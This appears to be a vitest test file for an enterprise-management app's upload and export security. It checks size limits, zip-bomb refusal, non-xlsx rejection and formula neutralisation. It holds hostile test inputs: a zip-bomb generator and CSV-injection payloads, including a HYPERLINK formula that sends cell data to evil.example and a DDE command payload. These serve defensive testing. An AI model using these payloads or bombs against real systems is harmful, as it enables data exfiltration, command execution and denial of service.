/**
 * Files (issue #9): upload size limit, zip bombs refused before inflating, non-xlsx refused, formula cells
 * on import, and formula neutralisation in every .xlsx and .csv export.
 */
import { performance } from 'node:perf_hooks';
import zlib from 'node:zlib';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, neutralise } from '../src/core/excel';
import { inspectZip, readSheet, verifyInflation } from '../src/core/xlsx';
import { call, createTestApp, q, type TestApp } from './harness';

let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = await t.login('admin');
});
afterAll(() => t.close());

const IMPORT = '/api/v1/enterprises/import?dryRun=true';
const HEADERS = [
  '企业名称*',
  '统一社会信用代码',
  '所在地区划代码*',
  '行业代码',
  '产业链',
  '入库状态',
  '成立日期',
  '注册资本（元）',
];
const TOWN = '370406109000';

function multipart(buf: Buffer, filename: string) {
  const boundary = '----beizeng-files-boundary';
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    buf,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(buf: Buffer, filename = 'import.xlsx', url = IMPORT) {
  const m = multipart(buf, filename);
  const t0 = performance.now();
  const res = await t.app.inject({ method: 'POST', url, payload: m.body, headers: { ...m.headers, cookie: admin } });
  return {
    res,
    ms: performance.now() - t0,
    messages: (res.json().errors ?? []).map((e: any) => e.message).join(' | '),
  };
}

async function workbook(rows: unknown[][], headers = HEADERS): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('企业');
  ws.addRow(headers);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

// ---------- a hand-built zip writer (sizes may lie) and reader ----------
interface RawEntry {
  name: string;
  data: Buffer; // already compressed when method = 8
  method: 0 | 8;
  uncompressed: number;
  /** What the local header and the central directory claim; defaults to the truth. */
  declared?: number;
  /** Left out of the central directory (a "hidden" entry). */
  hidden?: boolean;
}

function buildZip(entries: RawEntry[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  let count = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const size = e.declared ?? e.uncompressed;
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0, 6);
    lh.writeUInt16LE(e.method, 8);
    lh.writeUInt32LE(0, 14); // crc32: not checked by the readers here
    lh.writeUInt32LE(e.data.length, 18);
    lh.writeUInt32LE(size, 22);
    lh.writeUInt16LE(name.length, 26);
    locals.push(lh, name, e.data);
    if (!e.hidden) {
      const ch = Buffer.alloc(46);
      ch.writeUInt32LE(0x02014b50, 0);
      ch.writeUInt16LE(20, 4);
      ch.writeUInt16LE(20, 6);
      ch.writeUInt16LE(e.method, 10);
      ch.writeUInt32LE(e.data.length, 20);
      ch.writeUInt32LE(size, 24);
      ch.writeUInt16LE(name.length, 28);
      ch.writeUInt32LE(offset, 42);
      central.push(ch, name);
      count++;
    }
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(count, 8);
  eocd.writeUInt16LE(count, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

const deflated = (s: string): RawEntry => {
  const raw = Buffer.from(s);
  return { name: '', data: zlib.deflateRawSync(raw), method: 8, uncompressed: raw.length };
};

/** The minimal parts of a workbook, plus the given sheet entry. */
function xlsxWith(sheet: RawEntry): RawEntry[] {
  return [
    {
      ...deflated(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
      ),
      name: '[Content_Types].xml',
    },
    {
      ...deflated(
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="s" sheetId="1"/></sheets></workbook>',
      ),
      name: 'xl/workbook.xml',
    },
    { ...sheet, name: 'xl/worksheets/sheet1.xml' },
  ];
}

/** Deflates `mib` MiB of one repeated sheet row without ever holding the inflated bytes. */
async function bombData(mib: number): Promise<Buffer> {
  const chunk = Buffer.alloc(1024 * 1024, '<row><c><v>1</v></c></row>');
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (b: Buffer) => out.push(b));
  const done = new Promise((r) => deflate.on('end', r));
  for (let i = 0; i < mib; i++) if (!deflate.write(chunk)) await new Promise((r) => deflate.once('drain', r));
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/** Entry name → inflated text of an .xlsx (central directory read by hand, independent of ExcelJS). */
function unzip(buf: Buffer): Map<string, string> {
  const files = new Map<string, string>();
  let eocd = buf.length - 22;
  while (buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  let p = buf.readUInt32LE(eocd + 16);
  for (let i = 0; i < buf.readUInt16LE(eocd + 10); i++) {
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28);
    const name = buf.toString('utf8', p + 46, p + 46 + nameLen);
    const local = buf.readUInt32LE(p + 42);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const data = buf.subarray(start, start + size);
    files.set(name, (method === 8 ? zlib.inflateRawSync(data) : data).toString('utf8'));
    p += 46 + nameLen + buf.readUInt16LE(p + 30) + buf.readUInt16LE(p + 32);
  }
  return files;
}

const DANGEROUS = /^[=+\-@\t\r\0]/;
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
];

describe('upload size limit', () => {
  it('refuses a file over 20 MB with 413 and a clear message, before reading it', async () => {
    const big = Buffer.alloc(20 * 1024 * 1024 + 1024, 1);
    const { res, ms } = await upload(big);
    console.log(`[files] 20 MB + 1 KiB upload → ${res.statusCode} in ${ms.toFixed(0)} ms: ${res.json().message}`);
    expect(res.statusCode).toBe(413);
    expect(res.json().message).toContain('上传的内容过大');
    const en = await t.app.inject({
      method: 'POST',
      url: IMPORT,
      ...(() => {
        const m = multipart(big, 'x.xlsx');
        return { payload: m.body, headers: { ...m.headers, cookie: admin, 'accept-language': 'en' } };
      })(),
    });
    expect(en.statusCode).toBe(413);
    expect(en.json().message).toBe('The upload is too large');
  });
});

describe('zip bombs are refused before inflating', () => {
  it('refuses huge declared sizes, a 1,000:1 bomb, a bomb that lies about its size and a hidden entry', async () => {
    const bomb = await bombData(200); // 200 MiB of sheet XML
    console.log(
      `[files] bomb: 200 MiB inflated in ${bomb.length} compressed bytes (${Math.round((200 * 2 ** 20) / bomb.length)}:1)`,
    );
    const cases: { name: string; buf: Buffer; expect: RegExp }[] = [
      {
        name: 'declared 3.9 GB',
        buf: buildZip(xlsxWith({ ...deflated('<x/>'), name: '', declared: 0xfffffff0 })),
        expect: /解压后过大|压缩比异常/,
      },
      {
        name: 'a real bomb: 200 MiB declared honestly',
        buf: buildZip(xlsxWith({ name: '', data: bomb, method: 8, uncompressed: 200 * 2 ** 20 })),
        expect: /压缩比异常/,
      },
      {
        name: 'declares 900 KB, inflates to 200 MiB',
        buf: buildZip(xlsxWith({ name: '', data: bomb, method: 8, uncompressed: 200 * 2 ** 20, declared: 900_000 })),
        expect: /解压后过大/,
      },
      {
        name: 'bomb hidden from the central directory',
        buf: buildZip([
          { name: 'xl/worksheets/sheet2.xml', data: bomb, method: 8, uncompressed: 200 * 2 ** 20, hidden: true },
          ...xlsxWith(deflated('<worksheet/>')),
        ]),
        expect: /结构异常/,
      },
    ];
    for (const c of cases) {
      global.gc?.();
      const rss0 = process.memoryUsage().rss;
      // server-side: the checks alone, then the whole request through the route
      const t0 = performance.now();
      const err = await readSheet(c.buf, { required: [], optional: [], maxRows: 10 }).catch((e) => e);
      const checkMs = performance.now() - t0;
      const { res, ms, messages } = await upload(c.buf);
      const grown = (process.memoryUsage().rss - rss0) / 2 ** 20;
      console.log(
        `[files] ${c.name}: refused in ${checkMs.toFixed(1)} ms (checks) / ${ms.toFixed(1)} ms (whole request), RSS +${grown.toFixed(1)} MiB → ${res.statusCode} ${messages}`,
      );
      expect(err.code, c.name).toBe('VALIDATION');
      expect(res.statusCode, c.name).toBe(400);
      expect(messages, c.name).toMatch(c.expect);
      expect(grown, `${c.name}: memory grew by ${grown} MiB`).toBeLessThan(64); // 200 MiB if it had inflated
      expect(checkMs, c.name).toBeLessThan(5_000); // generous: the figure is printed, the target is < 100 ms
    }
  });

  it('accepts an honest zip and inflates it only to count, within its declared sizes', async () => {
    const good = await workbook([['山东好文件有限公司', null, TOWN, null, null, null, null, null]]);
    const entries = inspectZip(good);
    expect(entries.map((e) => e.name)).toContain('xl/worksheets/sheet1.xml');
    const t0 = performance.now();
    await verifyInflation(good, entries);
    console.log(
      `[files] honest ${good.length}-byte workbook: ${entries.length} entries checked in ${(performance.now() - t0).toFixed(1)} ms`,
    );
    const { res } = await upload(good);
    expect(res.statusCode).toBe(200);
    expect(res.json().errors).toEqual([]);
    // zips from other writers pass too: ExcelJS's streaming writer (archiver: data descriptors after each entry)
    const exported = (await call(t, admin, 'GET', '/api/v1/enterprises/export')).rawPayload;
    const streamed = inspectZip(exported);
    expect(streamed.some((e) => e.descriptor)).toBe(true);
    await verifyInflation(exported, streamed);
    // …and a zip with a stored (uncompressed) sheet
    const stored = buildZip(xlsxWith({ name: '', data: Buffer.from('<worksheet/>'), method: 0, uncompressed: 12 }));
    await verifyInflation(stored, inspectZip(stored));
  });
});

describe('non-xlsx files are refused with a clear message', () => {
  it('refuses CSV, PNG, empty, random, truncated, cut-in-the-middle, workbook-less zips and other extensions', async () => {
    const good = await workbook([['山东好文件有限公司', null, TOWN, null, null, null, null, null]]);
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
    ]);
    const middle = Buffer.concat([good.subarray(0, 200), good.subarray(1200)]);
    const cases: [string, Buffer, string, string][] = [
      ['CSV renamed .xlsx', Buffer.from('企业名称,所在地区划代码\n山东某公司,370406109000\n'), 'a.xlsx', '.xlsx'],
      ['PNG renamed .xlsx', png, 'logo.xlsx', '.xlsx'],
      ['empty file', Buffer.alloc(0), 'empty.xlsx', '文件为空'],
      ['random bytes', Buffer.from(Array.from({ length: 20_000 }, (_, i) => (i * 7919) % 251)), 'r.xlsx', '.xlsx'],
      ['truncated at half', good.subarray(0, Math.floor(good.length / 2)), 't.xlsx', '不完整'],
      ['truncated at 30 bytes', good.subarray(0, 30), 't.xlsx', '不完整'],
      ['1 KB cut out of the middle', middle, 'm.xlsx', '损坏'],
      ['zip without a workbook', buildZip([{ ...deflated('hello'), name: 'hello.txt' }]), 'z.xlsx', '缺少 workbook'],
      ['an .xls name', good, 'old.xls', '只支持 .xlsx'],
      ['a .csv name', good, 'data.csv', '只支持 .xlsx'],
    ];
    for (const [name, buf, filename, msg] of cases) {
      const { res, ms, messages } = await upload(buf, filename);
      console.log(`[files] ${name}: ${res.statusCode} in ${ms.toFixed(0)} ms: ${messages}`);
      expect(res.statusCode, name).toBe(400);
      expect(messages, name).toContain(msg);
    }
  });

  it('refuses a local header that disagrees with the central directory (the streaming reader follows the local one)', async () => {
    // ExcelJS's streaming reader never settles on some corrupt zips (it also runs under a timeout): such files are refused first
    const bad = buildZip(xlsxWith({ name: '', data: Buffer.from('<worksheet>'), method: 0, uncompressed: 11 }));
    bad.writeUInt32LE(0, bad.indexOf('xl/worksheets/sheet1.xml') - 30 + 18);
    const t0 = performance.now();
    const err = await readSheet(bad, { required: [], optional: [], maxRows: 10, timeoutMs: 2_000 }).catch((e) => e);
    console.log(`[files] local/central size mismatch refused in ${(performance.now() - t0).toFixed(1)} ms`);
    expect(err.code).toBe('VALIDATION');
  });
});

describe('formula cells on import', () => {
  it('imports the cached value of a formula, never the formula', async () => {
    const buf = await workbook([
      [
        { formula: 'HYPERLINK("http://evil.example/steal","山东公式测试有限公司")', result: '山东公式测试有限公司' },
        null,
        TOWN,
        null,
        null,
        null,
        null,
        { formula: '1+1', result: 2 },
      ],
    ]);
    expect(unzip(buf).get('xl/worksheets/sheet1.xml')).toContain('<f>HYPERLINK(');
    const { res } = await upload(buf, 'f.xlsx', '/api/v1/enterprises/import?dryRun=false');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().errors).toEqual([]);
    const rows = await q<{ name: string; registered_capital: string }>(
      t,
      "select name, registered_capital::text from enterprise where name like '%公式测试%'",
    );
    expect(rows).toEqual([{ name: '山东公式测试有限公司', registered_capital: '2.00' }]);
  });

  it('refuses a formula without a saved value, or with an error value, naming its row and column', async () => {
    const buf = await workbook([
      ['山东甲有限公司', null, TOWN, null, null, null, null, { formula: '1+1' }],
      ['山东乙有限公司', null, TOWN, null, null, null, null, 5],
      [{ formula: 'A1&"x"', result: { error: '#REF!' } }, null, TOWN, null, null, null, null, null],
    ]);
    const { res, messages } = await upload(buf);
    console.log(`[files] formula without value: ${res.statusCode} ${messages}`);
    expect(res.statusCode).toBe(400);
    expect(messages).toContain('第 2 行“注册资本（元）”是没有计算结果的公式');
    expect(messages).toContain('第 4 行“企业名称”是没有计算结果的公式');
    expect(messages).not.toContain('第 3 行');
  });
});

describe('exports neutralise formula-like text', () => {
  it('neutralises every dangerous first character in CSV fields (1,000 generated strings) and quotes per RFC 4180', () => {
    const parse = (field: string) => {
      expect(field.startsWith('"') && field.endsWith('"')).toBe(true);
      return field.slice(1, -1).replace(/""/g, '"');
    };
    fc.assert(
      fc.property(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\0', '', 'a', '中'),
        fc.string({ unit: 'binary', maxLength: 40 }),
        (first, rest) => {
          const s = first + rest;
          const out = parse(csvField(s));
          expect(DANGEROUS.test(out)).toBe(false);
          expect(out).toBe(DANGEROUS.test(s) ? `'${s}` : s);
          expect(neutralise(s)).toBe(out);
        },
      ),
      { numRuns: 1000, seed: 9 },
    );
    expect(csvField(-5)).toBe('-5'); // numbers stay numbers
    expect(csvField(null)).toBe('');
  });

  it('writes no formula and no formula-like text in any .xlsx or .csv export, after hostile input', async () => {
    // hostile text in the fields the exports show
    const ents: number[] = [];
    for (const [i, p] of PAYLOADS.entries()) {
      const res = await call(t, admin, 'POST', '/api/v1/enterprises', {
        name: `${p} #${i}`,
        regionCode: TOWN,
        shortName: p,
      });
      expect(res.statusCode, res.body).toBe(200);
      ents.push(res.json().id);
    }
    const lit = (s: string) => `'${s.replace(/'/g, "''")}'`;
    // the API trims names, so the tab and CR payloads are stored as they would come from an import
    for (const [i, p] of PAYLOADS.entries())
      await q(t, `update enterprise set name = ${lit(`${p} #${i}`)} where id = ${ents[i]}`);
    const [proj] = await q<{ id: number }>(t, 'select id from project order by id limit 1');
    await q(t, `update project set name = ${lit(PAYLOADS[1]!)} where id = ${proj!.id}`);
    await q(t, `update project_report set progress = ${lit(PAYLOADS[0]!)}, problems = ${lit(PAYLOADS[3]!)}`);
    await q(t, `update app_user set display_name = ${lit(PAYLOADS[4]!)} where username = 'cadre'`);
    await q(t, `update department set name = ${lit(PAYLOADS[2]!)} where id = (select min(id) from department)`);

    const urls = [
      '/api/v1/enterprises/export',
      '/api/v1/enterprises/export?format=csv',
      '/api/v1/projects/export',
      '/api/v1/projects/export?format=csv',
      '/api/v1/projects/schedule-report.xlsx',
      '/api/v1/users/export',
      '/api/v1/users/export?format=csv',
      '/api/v1/audit/logs/export',
      '/api/v1/audit/logs/export?format=csv',
      '/api/v1/audit/logins/export',
      '/api/v1/cultivation/radar/export',
      '/api/v1/cultivation/radar/export?format=csv',
      '/api/v1/reports/weekly.xlsx',
      '/api/v1/reports/monthly.xlsx',
      '/api/v1/enterprises/import-template',
      '/api/v1/enterprises/indicators/import-template',
      '/api/v1/projects/import-template',
    ];
    let cells = 0;
    let files = 0;
    const seen = new Set<string>();
    for (const url of urls) {
      const res = await call(t, admin, 'GET', url);
      expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBe(200);
      files++;
      const texts: string[] = [];
      if (url.includes('format=csv')) {
        expect(res.headers['content-type']).toContain('text/csv');
        expect(res.headers['content-disposition']).toMatch(/\.csv$/);
        texts.push(...parseCsv(res.body.replace(/^\uFEFF/, '')).flat());
      } else {
        const parts = unzip(res.rawPayload);
        for (const [name, xml] of parts) {
          if (!name.startsWith('xl/worksheets/')) continue;
          expect(xml, `${url} ${name}`).not.toMatch(/<f[ >]/);
        }
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(res.rawPayload as any);
        for (const ws of wb.worksheets)
          ws.eachRow((row) =>
            row.eachCell((cell) => {
              expect(cell.type, `${url} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
              if (typeof cell.value === 'string') texts.push(cell.value);
              else if (cell.value && typeof cell.value === 'object' && 'richText' in cell.value)
                texts.push(cell.value.richText.map((r) => r.text).join(''));
            }),
          );
      }
      for (const s of texts) {
        cells++;
        if (url.includes('format=csv') && /^-?\d+(\.\d+)?$/.test(s)) continue; // a bare number, not text
        expect(DANGEROUS.test(s), `${url}: ${JSON.stringify(s)}`).toBe(false);
        for (const p of PAYLOADS) if (s.startsWith(`'${p}`)) seen.add(`${url.split('?')[0]}|${p}`);
      }
    }
    console.log(`[files] ${files} export files, ${cells} text cells checked: 0 formulas, 0 formula-like cells`);
    // the hostile names really reached the enterprise exports, neutralised with an apostrophe
    for (const p of PAYLOADS) expect(seen.has(`/api/v1/enterprises/export|${p}`), p).toBe(true);
    expect(seen.has(`/api/v1/projects/export|${PAYLOADS[1]}`)).toBe(true);
    expect(seen.has(`/api/v1/projects/schedule-report.xlsx|${PAYLOADS[1]}`)).toBe(true);
    expect(seen.has(`/api/v1/users/export|${PAYLOADS[4]}`)).toBe(true);
  });
});

/** RFC 4180 reader (quoted fields may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}
